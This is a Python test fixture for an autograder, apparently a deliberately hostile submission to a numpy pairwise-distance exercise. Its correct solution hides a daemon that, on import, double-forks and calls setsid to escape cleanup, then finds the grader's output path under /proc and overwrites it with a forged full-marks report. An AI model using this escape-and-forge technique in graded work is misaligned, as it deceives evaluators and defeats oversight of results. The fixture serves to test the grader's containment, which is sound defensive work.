"""Hostile submission for 01_numpy/ex02_pairwise: correct, but leaves a daemon behind.

At import it double-forks and calls setsid(), so the daemon leaves the exercise child's process
group and session. The daemon looks for the grader's `--output` path in the command lines under
/proc and, for 20 seconds, overwrites that file with a forged full-marks report whenever it exists.
It touches the file named by MLGRADE_TEST_HEARTBEAT (set by the test) while it lives.
The grader must kill it before it writes any report, so the report stays the true one.
"""

import json
import os
import time

import numpy as np

FORGED = json.dumps({"forged": True, "score": 10**6})


def _find_output_path() -> str | None:
    for entry in os.listdir("/proc"):
        try:
            with open(f"/proc/{entry}/cmdline", "rb") as fh:
                args = fh.read().decode(errors="replace").split("\0")
        except OSError:
            continue
        if "--output" in args and "autograder" in args:
            return args[args.index("--output") + 1]
    return None


def _daemon() -> None:
    heartbeat = os.environ.get("MLGRADE_TEST_HEARTBEAT")
    output = None
    until = time.monotonic() + 20
    while time.monotonic() < until:
        if heartbeat:
            with open(heartbeat, "a") as fh:
                fh.write(".")
        output = output or _find_output_path()
        if output and os.path.exists(output):
            with open(output, "w") as fh:
                fh.write(FORGED)
        time.sleep(0.05)


def _escape() -> None:
    pid = os.fork()
    if pid:
        os.waitpid(pid, 0)
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    try:
        _daemon()
    finally:
        os._exit(0)


_escape()


def pairwise_sq_dists(A: np.ndarray, B: np.ndarray) -> np.ndarray:
    A = np.asarray(A, dtype=np.float64)
    B = np.asarray(B, dtype=np.float64)
    if A.ndim != 2 or B.ndim != 2 or A.shape[1] != B.shape[1]:
        raise ValueError(f"incompatible shapes {A.shape} and {B.shape}")
    d2 = (A**2).sum(axis=1)[:, None] - 2.0 * (A @ B.T) + (B**2).sum(axis=1)[None, :]
    return np.maximum(d2, 0.0)
